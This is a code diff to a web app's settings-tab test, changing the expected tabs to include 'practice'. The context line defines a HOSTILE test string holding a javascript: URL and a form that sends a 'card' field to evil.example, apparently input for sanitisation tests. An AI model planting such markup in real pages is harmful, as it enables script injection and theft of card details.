@@ -16,14 +16,14 @@ const HOSTILE =
   '<p style="background:url(javascript:alert(5))">Open daily</p><form action="https://evil.example"><input name="card"></form>';
 
 describe('Settings tabs', () => {
-  test('the root admin sees Website, Domains, Team and My Profile, and Settings opens on Website', async () => {
+  test('the root admin sees Website, Domains, Team, Practice and My Profile, and Settings opens on Website', async () => {
     const { token } = await createPracticeWithSite(app);
     const start = await app.request('/app/settings', { headers: cookieHeader(token) });
     expect(start.status).toBe(303);
     expect(start.headers.get('location')).toBe('/app/settings/website');
     const html = await (await app.request('/app/settings/website', { headers: cookieHeader(token) })).text();
     const tabs = [...html.matchAll(/<a href="\/app\/settings\/(\w+)" class="tab"/g)].map((m) => m[1]);
-    expect(tabs).toEqual(['website', 'domains', 'team', 'profile']);
+    expect(tabs).toEqual(['website', 'domains', 'team', 'practice', 'profile']);
     expect(html).toContain('<a href="/app/users">Users</a>');
   });
 
